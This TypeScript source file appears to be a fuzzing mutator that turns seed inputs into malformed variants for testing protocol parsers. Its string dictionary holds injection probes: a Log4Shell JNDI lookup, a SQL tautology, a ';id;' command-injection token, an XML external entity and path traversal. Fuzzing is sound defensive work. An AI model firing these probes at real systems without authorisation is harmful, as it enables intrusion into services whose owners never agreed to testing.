/** Changes to an input: what protocols break on, drawn from a seed. */

import { below, type Random } from '../../src/core/random.ts';

export const longestInput = 65_536;

const numbers = [
  0, 1, 2, 3, 4, 5, 7, 8, 15, 16, 31, 32, 63, 64, 127, 128, 129, 255, 256, 257, 1_023, 1_024, 4_095, 4_096,
  32_767, 32_768, 65_535, 65_536, 0xff_ffff, 0x7fff_ffff, 0x8000_0000, 0xffff_fffe, 0xffff_ffff,
] as const;
const texts = [
  '0',
  '-1',
  '1',
  '65536',
  '2147483647',
  '2147483648',
  '4294967296',
  '9007199254740993',
  '1e309',
  'NaN',
  'null',
  '__proto__',
  'constructor',
  '\r\n',
  '\n',
  '\r\n\r\n',
  '\0',
  ' ',
  '%00',
  '%n',
  '%s',
  '../',
  '"',
  "'",
  '`',
  '$(',
  '{',
  '}',
  '[',
  ']',
  '(',
  ')',
  '\\',
  '\u00ff\u00fe',
  ',',
  ':',
  ';',
  '=',
  '*',
  '${jndi:ldap://192.0.2.1/a}',
  "' or 1=1-- ",
  ';id;',
  '<!ENTITY x SYSTEM "a">',
] as const;

const concat = (...parts: readonly Uint8Array[]): Uint8Array => new Uint8Array(Buffer.concat(parts));

function put(bytes: Uint8Array, at: number, part: Uint8Array, over: boolean): Uint8Array {
  return concat(bytes.subarray(0, at), part, bytes.subarray(over ? at + part.length : at));
}

function numberBytes(random: Random): Uint8Array {
  const octets = Buffer.alloc(8);
  const value = numbers[below(random, numbers.length)] ?? 0;
  if ((random.next() & 1) === 0) octets.writeUInt32BE(value, 0);
  else octets.writeUInt32LE(value, 0);
  const width = [1, 2, 4][below(random, 3)] ?? 4;
  return octets[0] === 0 && width < 4 ? octets.subarray(4 - width, 4) : octets.subarray(0, width);
}

/** A whole number in text, one that the input holds, becomes another. */
function changeDigits(random: Random, bytes: Uint8Array): Uint8Array {
  const text = Buffer.from(bytes).toString('latin1');
  const places = [...text.matchAll(/\d{1,10}/g)];
  const place = places[below(random, Math.max(1, places.length))];
  if (place === undefined) return bytes;
  const value = String(numbers[below(random, numbers.length)]);
  const end = place.index + place[0].length;
  return concat(bytes.subarray(0, place.index), Buffer.from(value), bytes.subarray(end));
}

function once(random: Random, bytes: Uint8Array, others: readonly Uint8Array[]): Uint8Array {
  const at = below(random, bytes.length + 1);
  const length = 1 + below(random, Math.min(256, Math.max(1, bytes.length - at)));
  const run = bytes.subarray(at, at + length);
  const other = others[below(random, others.length)] ?? bytes;
  const from = below(random, other.length + 1);
  switch (below(random, 14)) {
    case 0:
    case 1: {
      const changed = Uint8Array.from(bytes);
      if (at < changed.length) changed[at] = (changed[at] ?? 0) ^ (1 << below(random, 8));
      return changed;
    }
    case 2: {
      const changed = Uint8Array.from(bytes);
      if (at < changed.length) changed[at] = below(random, 256);
      return changed;
    }
    case 3:
    case 4:
      return put(bytes, at, numberBytes(random), true);
    case 5:
      return put(bytes, at, numberBytes(random), false);
    case 6:
      return put(
        bytes,
        at,
        Buffer.from(texts[below(random, texts.length)] ?? '', 'latin1'),
        (random.next() & 1) === 0,
      );
    case 7:
      return concat(bytes.subarray(0, at), bytes.subarray(at + length));
    case 8:
      return concat(
        bytes.subarray(0, at),
        ...Array.from({ length: 2 ** below(random, 9) }, () => run),
        bytes.subarray(at),
      );
    case 9:
      return bytes.subarray(0, at);
    case 10:
      return concat(bytes.subarray(0, at), other.subarray(from));
    case 11:
      return concat(bytes, other);
    case 12:
      return put(bytes, at, other.subarray(from, from + 1 + below(random, 64)), (random.next() & 1) === 0);
    default:
      return changeDigits(random, bytes);
  }
}

/** One input made of another: a few changes at once, never longer than `longestInput`. */
export function mutate(random: Random, bytes: Uint8Array, others: readonly Uint8Array[]): Uint8Array {
  let changed = bytes;
  for (let count = 1 << below(random, 4); count > 0; count -= 1) {
    changed = once(random, changed, others).subarray(0, longestInput);
  }
  return changed;
}
